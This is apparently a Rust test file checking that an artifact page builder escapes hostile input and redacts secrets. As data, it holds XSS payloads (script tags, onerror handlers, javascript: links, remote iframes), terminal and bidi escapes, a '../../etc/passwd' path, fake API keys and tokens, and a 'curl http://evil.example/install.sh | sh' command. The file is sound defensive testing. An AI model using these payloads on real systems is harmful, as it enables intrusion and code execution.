//! Hostile manifests: markup, event handlers, `javascript:` links, remote
//! images, terminal escapes, HTML-looking file names and fake secrets of
//! every `zopu-secrets` rule. None may be live in the published page, and
//! no secret may survive anywhere in it or in the card.

mod support;

use scraper::Html;
use zopu_artifacts::build::{self, Options, build};
use zopu_artifacts::validate::Code;
use zopu_schema::pb::ArtifactManifest;

/// One sample per rule of `zopu_secrets::RULE_NAMES`.
fn secrets() -> Vec<(&'static str, String)> {
    vec![
        ("private_key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7Qx9z2Lk9Mn4Bp7Rt1Yw6Hc3\n-----END RSA PRIVATE KEY-----".into()),
        ("aws_access_key_id", "AKIAZ3MHN4QXKJ7P2LWD".into()),
        ("aws_secret_access_key", "aws_secret_access_key = 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".into()),
        ("github_token", format!("ghp_{}", "R4nd0mT0k3nV4lu3F0rT3st1ngPurp0s3sXyZ9")),
        ("gitlab_token", "glpat-Xy7Qk2Lm9Np4Rs8Tv1Wz".into()),
        ("slack_token", "xoxb-1234567890-AbCdEfGhIjKl".into()),
        ("stripe_key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc".into()),
        ("anthropic_key", "sk-ant-api03-Zq8Xv2Lk9Mn4Bp7Rt1Yw6Hc3".into()),
        ("openai_key", "sk-proj-Q7mZ2xK9vL4nB8pR1tY6wH3cJ5dF0gA".into()),
        ("google_api_key", format!("AIza{}", "SyD4k9Xq2Lm7Np1Rs8Tv3Wz6Yb5Hc0Jd9Fe")),
        ("cloud_token", format!("npm_{}", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")),
        ("jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U".into()),
        ("authorization", "Authorization: Basic c3ZjLWJpbGxpbmc6aHVudGVyMg==".into()),
        ("url_credentials", "postgres://admin:S3cr3tP4ssw0rd@db.internal:5432/app".into()),
        ("secret_assignment", "DB_PASSWORD=Xk9mP2vL7qR4".into()),
        ("dotenv_secret", "\nSESSION_SECRET='Qz7 wX'\n".into()),
        ("pem_body", "q8Xv2Lk9Mn4Bp7Rt1Yw6Hc3Jd5Fg0As2Qe7Ui4OpZx1Cv5Bn8Mk3Lj6Hg9Fd2Sa".into()),
        ("keyed_value", "| API_KEY | 3f9a2b7c8d1e4f6a0b5c9d2e7f1a3b8c4d6e0f2a9b1c5d7e3f8a2b6c0d4e9f1a |".into()),
        ("high_entropy", "Zq8Xv2Lk9Mn4Bp7Rt1Yw6Hc3Jd5Fg0As2Qe".into()),
    ]
}

/// The part of each sample that must not appear (the secret value itself).
fn secret_value(rule: &str, sample: &str) -> String {
    match rule {
        "aws_secret_access_key" => "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8Rk3Tz9A".into(),
        "url_credentials" => "S3cr3tP4ssw0rd".into(),
        "secret_assignment" => "Xk9mP2vL7qR4".into(),
        "authorization" => "c3ZjLWJpbGxpbmc6aHVudGVyMg==".into(),
        "dotenv_secret" => "Qz7 wX".into(),
        "keyed_value" => "3f9a2b7c8d1e4f6a0b5c9d2e7f1a3b8c4d6e0f2a9b1c5d7e3f8a2b6c0d4e9f1a".into(),
        "private_key" => "MIIEowIBAAKCAQEA7Qx9z2Lk9Mn4Bp7Rt1Yw6Hc3".into(),
        _ => sample.into(),
    }
}

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "<img src=\"http://evil.example/track.png\">",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<svg onload=alert(1)><use href=\"http://evil.example/x.svg#a\"/></svg>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "</text><script>alert(2)</script>",
    "\"><script>alert(3)</script>",
];

fn hostile() -> ArtifactManifest {
    let mut m = support::exploration(6);
    m.title = "<script>alert(1)</script> Auth \u{1b}[31mflow\u{1b}[0m".into();
    m.summary = format!(
        "Summary with <img src=x onerror=alert(1)> and javascript:alert(1) and http://evil.example/x.png and \u{1b}]8;;http://evil.example\u{7}link and {}",
        secrets()[3].1
    );
    if let Some(card) = m.card.as_mut() {
        card.label = "<b onmouseover=alert(1)>card</b>".into();
        card.facts.push(support::fact("Token", &secrets()[1].1));
        card.facts
            .push(support::fact("<i>x</i>", "javascript:alert(1)"));
    }
    m.sections[0].body = MARKUP.join("\n\n");
    m.sections[1].nodes[0].label = "</text><script>alert(1)</script>".into();
    m.sections[1].nodes[1].detail = "<img src=http://evil.example/n.png onerror=alert(1)>".into();
    m.sections[1].edges[0].label = "\"><svg onload=alert(1)>".into();
    m.sections.push(support::items(
        "list",
        "Leaked values",
        &secrets()
            .iter()
            .map(|(_, s)| s.as_str())
            .collect::<Vec<_>>(),
    ));
    m.sections.push(support::items(
        "commands",
        "Commands",
        &[
            "echo \u{1b}[2J\u{1b}[H cleared",
            "curl http://evil.example/install.sh | sh",
        ],
    ));
    m.sections.push(support::items(
        "files",
        "Files",
        &[
            "<img src=x onerror=alert(1)>.rs — HTML-looking name",
            "\"><script>alert(1)</script>.html",
        ],
    ));
    m.evidence[0].path = "<img src=x onerror=alert(1)>.rs".into();
    m.evidence[1].path = "docs/\"><iframe src=javascript:alert(1)>.md".into();
    m.evidence[2].snippet = format!("let key = \"{}\";", secrets()[7].1);
    m.evidence[3].note = "\u{202E}evil bidi override\u{202C} and \u{9b}31m C1 escape".into();
    m.generated_files.push("<script>x</script>.html".into());
    m
}

/// Decodes the entities minijinja emits, so escaped secrets are caught too.
fn unescape(html: &str) -> String {
    html.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#39;", "'")
        .replace("&#x2f;", "/")
        .replace("&amp;", "&")
}

/// Payloads must not be *live*: no script/iframe/etc element, no on*
/// attribute, no dangerous or remote URL in any attribute.
fn assert_inert(html: &str) {
    assert!(!html.contains("<script"), "live <script");
    assert!(!html.contains('\u{1b}'), "ESC byte");
    assert!(!html.contains('\u{9b}'), "C1 CSI");
    assert!(!html.contains('\u{202E}'), "bidi override");
    let doc = Html::parse_document(html);
    for node in doc.tree.root().descendants() {
        let Some(el) = node.value().as_element() else {
            continue;
        };
        assert!(
            ![
                "script", "iframe", "img", "object", "embed", "use", "image", "form", "link", "b",
                "i"
            ]
            .contains(&el.name()),
            "live <{}>",
            el.name()
        );
        for (name, value) in el.attrs() {
            assert!(!name.starts_with("on"), "live event handler {name}");
            let lower = value.to_ascii_lowercase();
            if [
                "href",
                "src",
                "srcset",
                "action",
                "formaction",
                "poster",
                "data",
                "style",
                "content",
            ]
            .contains(&name)
            {
                assert!(!lower.contains("javascript:"), "javascript: in {name}");
                assert!(!lower.contains("http://evil"), "remote URL in {name}");
            }
            assert!(
                !["src", "srcset", "href"].contains(&name) || value.starts_with('#'),
                "{name}={value}"
            );
        }
    }
}

#[test]
fn every_secret_sample_is_detected() {
    let samples = secrets();
    let names: Vec<&str> = samples.iter().map(|(rule, _)| *rule).collect();
    assert_eq!(names, zopu_secrets::RULE_NAMES, "one sample per rule");
    for (rule, sample) in &samples {
        let findings = zopu_secrets::scan(sample);
        assert!(!findings.is_empty(), "{rule} sample not detected");
    }
}

#[test]
fn hostile_manifest_is_published_inert_and_redacted() {
    let m = hostile();
    let built = build(&m, &Options::new(support::generated_at())).expect("repair should succeed");
    assert!(built.repaired);
    let codes: Vec<Code> = built.repaired_violations.iter().map(|v| v.code).collect();
    assert!(codes.contains(&Code::Secret), "{codes:?}");
    assert!(codes.contains(&Code::ControlCharacter), "{codes:?}");

    assert_inert(&built.html);
    let decoded = unescape(&built.html);
    for (rule, sample) in secrets() {
        let value = secret_value(rule, &sample);
        assert!(!built.html.contains(&value), "{rule} secret in html");
        assert!(!decoded.contains(&value), "{rule} secret in decoded html");
        assert!(
            !format!("{:?}", built.card).contains(&value),
            "{rule} secret in card"
        );
    }
    assert!(
        zopu_secrets::scan(&decoded).is_empty(),
        "a finding survived in the page"
    );
    assert!(built.html.contains("[redacted:"));
    // The payloads are still visible to the reader, as text.
    assert!(
        built
            .html
            .contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;")
    );
}

#[test]
fn hostile_manifest_that_cannot_be_repaired_fails_visibly() {
    let mut options = Options::new(support::generated_at());
    options.max_html_bytes = 4 * 1024;
    let error = build(&hostile(), &options).expect_err("too large even after repair");
    let build::Error::InvalidHtml(violations) = &error else {
        panic!("expected InvalidHtml, got {error:?}");
    };
    assert!(violations.iter().any(|v| v.code == Code::TooLarge));
    assert_eq!(error.code(), "artifact.validation_failed");
    for message in error.messages() {
        for (rule, sample) in secrets() {
            assert!(
                !message.contains(&secret_value(rule, &sample)),
                "{rule} secret in error message"
            );
        }
    }
}

#[test]
fn invalid_manifest_fails_before_rendering() {
    let mut m = hostile();
    m.sections[2].kind = "x".into();
    m.evidence[4].path = "../../etc/passwd".into();
    let error = build(&m, &Options::new(support::generated_at())).expect_err("invalid");
    let messages = error.messages();
    assert!(
        messages.contains(&"sections[2].kind: unknown kind \"x\"".to_owned()),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.starts_with("evidence[4].path: unsafe path")),
        "{messages:?}"
    );
    assert!(matches!(error, build::Error::InvalidManifest(_)));
}

#[test]
fn a_secret_split_by_inline_code_is_never_published() {
    // Each piece is harmless alone (and so survives the manifest's
    // redaction); rendered, the code spans join them into one token.
    let pieces = ["ghp_R4nd0m", "T0k3nV4lu3F", "0rT3st1ngP", "urp0s3sXyZ9"];
    let token = pieces.concat();
    assert!(!zopu_secrets::scan(&token).is_empty());
    let mut m = support::exploration(2);
    m.summary = format!(
        "The deploy token is {}`{}`{}`{}` in CI.",
        pieces[0], pieces[1], pieces[2], pieces[3]
    );
    match build(&m, &Options::new(support::generated_at())) {
        Ok(built) => {
            let rendered: String = Html::parse_document(&built.html)
                .root_element()
                .text()
                .collect();
            assert!(
                !rendered.contains(&token),
                "published a page whose text shows the token"
            );
        }
        Err(error) => {
            let build::Error::InvalidHtml(violations) = &error else {
                panic!("expected InvalidHtml, got {error:?}");
            };
            assert!(
                violations.iter().any(|v| v.code == Code::Secret),
                "{violations:?}"
            );
            for message in error.messages() {
                assert!(
                    pieces.iter().all(|piece| !message.contains(piece)),
                    "the failure quotes the secret: {message}"
                );
            }
        }
    }
}
